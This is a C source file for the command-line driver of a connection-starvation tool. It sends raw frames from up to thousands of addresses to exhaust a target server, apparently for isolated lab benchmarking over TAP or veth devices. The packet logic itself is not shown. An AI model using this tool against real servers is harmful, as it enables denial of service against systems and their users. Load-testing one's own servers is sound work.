/*
 * attacker.c -- one machine, or a thousand, that tries to starve a server.
 *
 *      attacker Q3 httpd --device leat0 --server 10.0.0.2 --gateway 10.0.0.254 --addresses 8
 */
#include "attack.h"

#include <arpa/inet.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum {
    CONNECTIONS_MAX = 20000,
    RATE_DEFAULT = 2000,
    SECONDS_MAX = 3600
};

/* ---- The command line ----------------------------------------------------------------------- */

static void usage(void)
{
    printf(
        "usage: attacker PLAY SERVICE --device NAME --server IP --gateway IP [OPTION]...\n\n"
        "Attacks a server with raw frames, as root, from otherwise unused addresses.  Prints\n"
        "\"attacking\" when the server has answered ARP, and \"over\" and its counters at the "
        "end.\n\n"
        "  --device NAME     device that sends the frames: a TAP device, or an end of a veth\n"
        "  --server IP       address of the server\n"
        "  --gateway IP      an address of ours on the link: the server's gateway to the others\n"
        "  --port N          port of the server (that of the service)\n"
        "  --from IP         the first of our addresses (198.18.0.1); over IPv6 a.b.c.d is\n"
        "                    2001:db8:AABB:CCDD::1, so each has a /64 of its own\n"
        "  --addresses N     number of addresses (1)\n"
        "  --connections N   number in total (that of the play; at least one per address)\n"
        "  --seconds S       duration (10)\n"
        "  --after S         then only answer ARP for so long (0)\n"
        "  --rate N          frames a second (that of the play, or 2000)\n"
        "  --opens N         connections opened a second (200)\n"
        "  --seed N          seed of the sequence numbers (1)\n"
        "  --help            print this\n");
    plays_print();
}

static bool parse_ip(const char *text, uint32_t *ip)
{
    struct in_addr parsed;

    if (inet_pton(AF_INET, text, &parsed) != 1)
        return false;
    *ip = ntohl(parsed.s_addr);
    return true;
}

/* Parses an address of either family; the other one stays 0. */
static bool parse_either(const char *text, uint32_t *ip, uint8_t *ip6)
{
    return strchr(text, ':') ? inet_pton(AF_INET6, text, ip6) == 1 : parse_ip(text, ip);
}

static bool parse_number(const char *text, double low, double high, double *number)
{
    char *end;

    *number = strtod(text, &end);
    return end != text && *end == '\0' && *number >= low && *number <= high;
}

enum key {
    KEY_DEVICE,
    KEY_SERVER,
    KEY_GATEWAY,
    KEY_FROM,
    KEY_PORT,
    KEY_ADDRESSES,
    KEY_CONNECTIONS,
    KEY_SECONDS,
    KEY_AFTER,
    KEY_RATE,
    KEY_OPENS,
    KEY_STAYS,
    KEY_SEED,
    KEY_HELP
};

struct settings {
    const char *device;
    uint32_t server, gateway, from;
    uint8_t server6[16], gateway6[16];
    double numbers[KEY_HELP]; /* indexed by the options' keys */
};

static const struct option options[] = {{"device", required_argument, NULL, KEY_DEVICE},
                                        {"server", required_argument, NULL, KEY_SERVER},
                                        {"gateway", required_argument, NULL, KEY_GATEWAY},
                                        {"from", required_argument, NULL, KEY_FROM},
                                        {"port", required_argument, NULL, KEY_PORT},
                                        {"addresses", required_argument, NULL, KEY_ADDRESSES},
                                        {"connections", required_argument, NULL, KEY_CONNECTIONS},
                                        {"seconds", required_argument, NULL, KEY_SECONDS},
                                        {"after", required_argument, NULL, KEY_AFTER},
                                        {"rate", required_argument, NULL, KEY_RATE},
                                        {"opens", required_argument, NULL, KEY_OPENS},
                                        {"stays", required_argument, NULL, KEY_STAYS},
                                        {"seed", required_argument, NULL, KEY_SEED},
                                        {"help", no_argument, NULL, KEY_HELP},
                                        {NULL, 0, NULL, 0}};

/* Handles one option; false if its value is wrong. */
static bool set(struct settings *settings, int key)
{
    static const double most[KEY_HELP] = {[KEY_PORT] = 65535,
                                          [KEY_ADDRESSES] = CONNECTIONS_MAX,
                                          [KEY_SECONDS] = SECONDS_MAX,
                                          [KEY_AFTER] = SECONDS_MAX,
                                          [KEY_RATE] = 1e6,
                                          [KEY_OPENS] = 1e6,
                                          [KEY_STAYS] = SECONDS_MAX,
                                          [KEY_SEED] = 1e9,
                                          [KEY_CONNECTIONS] = CONNECTIONS_MAX};

    switch (key) {
    case KEY_DEVICE:
        settings->device = optarg;
        return true;
    case KEY_SERVER:
        return parse_either(optarg, &settings->server, settings->server6);
    case KEY_GATEWAY:
        return parse_either(optarg, &settings->gateway, settings->gateway6);
    case KEY_FROM:
        return parse_ip(optarg, &settings->from);
    default:
        return parse_number(optarg, key == KEY_AFTER ? 0 : 1, most[key], &settings->numbers[key]);
    }
}

/* Returns the exit status, or -1 to continue. */
static int parse(struct settings *settings, int argc, char **argv)
{
    int key;

    while ((key = getopt_long(argc, argv, "", options, NULL)) != -1) {
        if (key == KEY_HELP) {
            usage();
            return 0;
        }
        if (key == '?')
            return 2;
        if (!set(settings, key)) {
            fprintf(stderr, "attacker: --%s can't be %s; see --help\n", options[key].name, optarg);
            return 2;
        }
    }
    if (argc - optind == 2 && settings->device &&
        ((settings->server && settings->gateway) ||
         (settings->server6[0] && settings->gateway6[0])))
        return -1;
    fprintf(stderr, "attacker: PLAY SERVICE --device --server --gateway are needed, of one family; "
                    "see --help\n");
    return 2;
}

/* Sets the attack up; false if there is no such play or service, or it is too large. */
static bool prepare(struct attacker *attacker, const struct settings *settings, char **names)
{
    const double *numbers = settings->numbers;
    const struct play *play = attacker->play = play_named(names[0]);
    const struct service *service = attacker->service = service_named(names[1]);

    if (!play || !service) {
        fprintf(stderr, "attacker: no such %s; see --help\n", play ? "service" : "play");
        return false;
    }
    attacker->addresses = (uint32_t)numbers[KEY_ADDRESSES];
    attacker->count =
        numbers[KEY_CONNECTIONS] > 0 ? (uint32_t)numbers[KEY_CONNECTIONS] : play->connections;
    attacker->stays_ns = numbers[KEY_STAYS] > 0 ? (uint64_t)(numbers[KEY_STAYS] * 1e9)
                                                : play->stays_s * 1000000000ull;
    if (attacker->count < attacker->addresses)
        attacker->count = attacker->addresses;
    attacker->slots = (attacker->count + attacker->addresses - 1) / attacker->addresses;
    attacker->connections = calloc(attacker->count, sizeof *attacker->connections);
    attacker->random = 0x9e3779b97f4a7c15 * (uint64_t)numbers[KEY_SEED];
    attacker->frames.rate = numbers[KEY_RATE] > 0 ? numbers[KEY_RATE] : play->rate;
    if (attacker->frames.rate <= 0)
        attacker->frames.rate = RATE_DEFAULT;
    attacker->opens.rate = numbers[KEY_OPENS];
    attacker->wire =
        (struct wire){.station = {0x02, 0x61, 0x74, 0x74, 0x61, 0x63},
                      .gateway = settings->gateway,
                      .first = settings->from,
                      .count = attacker->addresses,
                      .server = settings->server,
                      .v6 = settings->server6[0] != 0,
                      .port = numbers[KEY_PORT] > 0 ? (uint16_t)numbers[KEY_PORT] : service->port};
    memcpy(attacker->wire.server6, settings->server6, sizeof settings->server6);
    memcpy(attacker->wire.gateway6, settings->gateway6, sizeof settings->gateway6);
    return attacker->connections != NULL;
}

static volatile sig_atomic_t stop;

static void on_signal(int number)
{
    (void)number;
    stop = 1;
}

int main(int argc, char **argv)
{
    struct settings settings = {
        .from = 0xc6120001, /* 198.18.0.1 (RFC 2544) */
        .numbers = {[KEY_ADDRESSES] = 1, [KEY_SECONDS] = 10, [KEY_OPENS] = 200, [KEY_SEED] = 1}};
    static struct attacker attacker;
    int status = parse(&settings, argc, argv);
    uint64_t end_ns;

    if (status >= 0)
        return status;
    if (!prepare(&attacker, &settings, argv + optind))
        return 2;
    if (!wire_open(&attacker.wire, settings.device))
        return 1;
    signal(SIGTERM, on_signal);
    printf("attacking\n");
    fflush(stdout);
    end_ns = attack_now_ns() + (uint64_t)(settings.numbers[KEY_SECONDS] * 1e9);
    attack_until(&attacker, end_ns, false, &stop);
    stop = 0;
    printf("over\n");
    attack_report(&attacker);
    fflush(stdout);
    attack_until(&attacker, end_ns + (uint64_t)(settings.numbers[KEY_AFTER] * 1e9), true, &stop);
    return 0;
}
